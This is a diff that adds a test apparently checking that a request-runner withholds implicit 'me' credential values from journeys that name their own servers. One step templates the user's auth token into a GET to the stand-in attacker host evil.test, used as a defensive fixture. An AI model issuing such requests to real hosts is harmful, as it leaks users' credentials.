@@ -378,3 +378,19 @@ def test_a_secret_that_the_run_does_not_read_needs_no_grant():
         secrets=("ALPHA",),
     )
     assert made.secret_names == ("ALPHA",)
+
+
+def test_a_journey_that_names_its_own_servers_gets_no_me_values_without_an_environment_file():
+    implicit = EnvironmentSnapshot(name="default", is_implicit=True, me={"auth_token": "t-1"})
+    variables = (variable("token", "me", key="auth_token"),)
+
+    assert plan(environment=implicit, variables=variables).environment.me == {"auth_token": "t-1"}
+    assert problems(environment=implicit, variables=variables, origins=("https://evil.test",)) == [
+        ("RF301", "required variable `token` has no value")
+    ]
+    assert problems(
+        environment=implicit,
+        steps=(get("https://evil.test/{{ me.auth_token }}"),),
+        me_values=("auth_token",),
+        origins=("https://evil.test",),
+    ) == [("RF301", "required me value `auth_token` is not set")]
